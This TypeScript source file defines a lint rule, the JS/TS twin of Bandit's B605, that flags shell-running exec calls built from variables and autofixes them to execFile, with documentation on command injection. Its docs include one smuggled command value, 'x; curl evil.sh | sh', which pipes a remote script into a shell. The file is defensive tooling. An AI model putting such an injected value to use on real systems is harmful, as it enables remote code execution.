import type { FileFacts } from '../../facts';
import {
  addNamedImport,
  cachedCallName,
  callArguments,
  calleeOf,
  codeStyle,
  ensureImports,
  hasSpreadArgument,
  hasSpreadProperty,
  identifierCount,
  isFunction,
  mentions,
  objectLiteral,
  property,
  quoteString,
  replaceNode,
  stringValue,
  unwrap,
} from '../../javascript/syntax';
import type { Node } from '../../parser';
import { defineRule } from '../../rule';
import type { TextEdit } from '../../types';
import { twinMeta } from '../python/index';

/** Calls that always run their command through a shell, and the shell-free call a fix moves to. */
const SHELL_CALLS: Readonly<Record<string, string | undefined>> = {
  'child_process.exec': 'execFile',
  'child_process.execSync': 'execFileSync',
  'shelljs.exec': undefined,
};

/**
 * Text a shell reads only as plain words: letters, digits and `_-./:=@+,`, separated by spaces
 * or tabs. Anything else (quotes, `$`, `*`, `;`, `|`, `%`, `^`, `~`, `#`, backslashes, newlines…)
 * means something to sh or cmd.exe, and the command cannot be split without a shell.
 */
export const PLAIN_WORDS = /^[\w\-./:=@+, \t]*$/;

interface State {
  call: Node;
  /** The shell-free function to call instead, for child_process. */
  replacement?: string;
}

/** Words one of which a file must contain for this rule to find anything. */
const TRIGGERS = ['exec'];

export const jsStartProcessWithAShell = defineRule<State>({
  meta: twinMeta('B605'),
  family: 'javascript',
  nodeTypes: ['call_expression'],
  triggers: TRIGGERS,
  check(call, ctx) {
    if (!mentions(ctx, TRIGGERS)) return undefined;
    const callee = cachedCallName(call, ctx.facts);
    if (!callee?.imported || !(callee.name in SHELL_CALLS) || hasSpreadArgument(call)) return undefined;
    const command = callArguments(call)[0];
    if (!command || stringValue(command) !== undefined) return undefined;
    return {
      node: command,
      message: `${callee.name} runs its command through a shell: a value built into it can end the command and start others (; && | $(…)). Pass the arguments as an array to execFile or spawn.`,
      state: { call, replacement: SHELL_CALLS[callee.name] },
    };
  },
  fix(report, ctx) {
    const { call, replacement } = report.state!;
    // A promisified exec: execFile would need promisifying too, which is the author's call.
    if (!replacement || ctx.facts.wrappers.has(calleeOf(call)?.text.split('.')[0] ?? '')) return [];
    const args = callArguments(call);
    // Options that ask for a shell (or may: a spread, a variable) keep one after the rewrite.
    if (!args.slice(1).every((arg) => isFunction(arg) || isCallbackName(arg) || isShellFreeOptions(arg))) return [];
    const style = codeStyle(ctx.root, ctx.text, ctx.options.path);
    const split = splitCommand(report.node, style.quote);
    if (!split) return [];
    const callee = calleeEdit(calleeOf(call)!, replacement, ctx.root, ctx.text, ctx.facts, ctx.options.path);
    if (!callee) return [];
    const argv = `${split.file}, [${split.args.join(', ')}]`;
    return [
      {
        title: `Run without a shell: ${callee.name}(${argv.length > 60 ? `${split.file}, […]` : argv})`,
        applicability: 'unsafe',
        edits: [...callee.edits, replaceNode(report.node, argv)],
        caveat:
          'Without a shell, a substituted value is passed as one argument and is no longer split on spaces or expanded; ' +
          'on Windows, .cmd and .bat programs (npm, yarn) cannot be started without a shell; a missing program fails with ENOENT instead of exit code 127.',
      },
    ];
  },
  docs: `
## What it does
Reports \`child_process.exec\` and \`execSync\`, and \`shelljs\`'s \`exec\`, when the command is
not a fixed string: a variable, a template with substitutions or a concatenation. These always
run the command through a shell (\`/bin/sh -c\`, \`cmd.exe /s /c\`). Names resolve through
\`import\`, \`require\`, destructuring and aliases (\`const { exec: run } = require('child_process')\`).

## Why is this bad?
The command is a shell script. A value built into it can end the intended command and start
others with \`;\`, \`&&\`, \`|\`, \`$(…)\` or backquotes: \`\` exec(\`git log \${branch}\`) \`\` with a
branch named \`x; curl evil.sh | sh\` runs the download (CWE-78).

## Example
\`\`\`ts
import { exec } from 'node:child_process';
exec(\`git log --oneline \${branch}\`, (error, stdout) => show(stdout));
\`\`\`

## Use instead
\`\`\`ts
import { execFile } from 'node:child_process';
execFile('git', ['log', '--oneline', branch], (error, stdout) => show(stdout));
\`\`\`

## Beyond Bandit
Bandit's B605 covers Python's \`os.system\` and friends; this is its TS/JS twin, so
\`// nosec B605\` means the same in both languages. Unlike Bandit (and eslint-plugin-security's
\`detect-child-process\`), a fixed command (\`exec('npm ci')\`) is not reported: nothing from
outside can get into it. A promisified \`exec\` (\`const run = util.promisify(exec)\`) is followed
to the function it wraps (without a fix). Calls with \`shell: true\` are B602.

## Fix safety
For a template literal whose fixed text is plain words (letters, digits, \`_-./:=@+,\`, spaces)
and whose first word is fixed, the fix calls \`execFile\` (\`execFileSync\`) with the program and
an argument array, one element per word: \`\` \`git log \${ref}\` \`\` → \`'git', ['log', ref]\`, and
\`\` \`--out=\${dir}\` \`\` stays one template element. The callback and options stay as they are. It
reuses the file's \`execFile\` or \`child_process\` import (\`cp.execFile\`), else adds \`execFile\`
next to the import or \`require\` of \`exec\` (renaming it when \`exec\` is used nowhere else),
else imports \`child_process\` the way the file imports modules. It is offered only when the options cannot ask for a shell (none, or an
object literal without \`shell\` and without spreads). It is unsafe: a substituted value is now
one argument, no longer split on spaces or globbed (usually the intent, but a variable holding
several arguments must become several elements); on Windows, \`.cmd\`/\`.bat\` programs such as
\`npm\` need a shell; a missing program fails with \`ENOENT\` instead of exit code 127. No fix for
quotes, variables, redirections, pipes or other shell syntax, nor for \`shelljs\`.

## References
- [Node.js: child_process.execFile()](https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback)
- [Node.js: child_process.exec() — never pass unsanitized input](https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback)
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
`,
});

/** A variable named as a callback (`cb`, `done`, `onExit`, `handleResult`): not an options object. */
function isCallbackName(node: Node): boolean {
  const inner = unwrap(node);
  return inner.type === 'identifier' && /^(?:cb|callback|done|next|resolve|handler|on[A-Z]\w*|handle[A-Z]\w*|\w+(?:Callback|Handler))$/.test(inner.text);
}

/** An options object literal that cannot turn a shell on. */
function isShellFreeOptions(node: Node): boolean {
  const object = objectLiteral(node);
  return !!object && !hasSpreadProperty(object) && !property(object, 'shell');
}

type Part = { literal: string } | { expression: Node };

/**
 * A template command split into the program and its arguments as source text, when its words
 * are unambiguous: `\`git log \${ref}\`` → file `'git'`, args [`'log'`, `ref`].
 */
export function splitCommand(command: Node, quote: "'" | '"'): { file: string; args: string[] } | undefined {
  const template = unwrap(command);
  if (template.type !== 'template_string') return undefined;
  const words: Part[][] = [];
  let word: Part[] = [];
  const endWord = (): void => {
    if (word.length > 0) words.push(word);
    word = [];
  };
  for (const child of template.namedChildren) {
    if (!child) continue;
    if (child.type === 'template_substitution') {
      const expression = child.namedChildren[0];
      if (!expression) return undefined;
      word.push({ expression });
    } else if (child.type === 'string_fragment') {
      if (!PLAIN_WORDS.test(child.text)) return undefined;
      const pieces = child.text.split(/[ \t]+/);
      pieces.forEach((piece, i) => {
        if (i > 0) endWord();
        if (piece) word.push({ literal: piece });
      });
    } else {
      return undefined; // escapes, comments
    }
  }
  endWord();
  const [first, ...rest] = words;
  if (!first || first.length !== 1 || !('literal' in first[0]!) || first[0].literal.includes('=')) return undefined;
  return { file: quoteString(first[0].literal, quote), args: rest.map((parts) => argumentText(parts, quote)) };
}

function argumentText(parts: Part[], quote: "'" | '"'): string {
  if (parts.length === 1) {
    const part = parts[0]!;
    if ('literal' in part) return quoteString(part.literal, quote);
    return part.expression.type === 'sequence_expression' ? `(${part.expression.text})` : part.expression.text;
  }
  return `\`${parts.map((part) => ('literal' in part ? part.literal : `\${${part.expression.text}}`)).join('')}\``;
}

/** The edits that make the call's callee `replacement` (`execFile`), and the name it is then called by. */
function calleeEdit(callee: Node, replacement: string, root: Node, text: string, facts: FileFacts, path: string | undefined): { name: string; edits: TextEdit[] } | undefined {
  if (callee.type === 'member_expression') {
    const property = callee.childForFieldName('property')!;
    return { name: `${callee.childForFieldName('object')!.text}.${replacement}`, edits: [replaceNode(property, replacement)] };
  }
  if (callee.type !== 'identifier') return undefined;
  const plan = ensureImports(root, text, facts, callee, [{ module: 'child_process', member: replacement }], path);
  if (plan.edits.length === 0) return { name: plan.references[0]!, edits: [replaceNode(callee, plan.references[0]!)] };
  // Next to the import of the function itself: `import { exec, execFile } from …`.
  const named = addNamedImport(root, text, facts, callee.text, replacement, identifierCount(root, text, callee.text) <= 2);
  if (named) return { name: replacement, edits: [...named, replaceNode(callee, replacement)] };
  return { name: plan.references[0]!, edits: [...plan.edits, replaceNode(callee, plan.references[0]!)] };
}
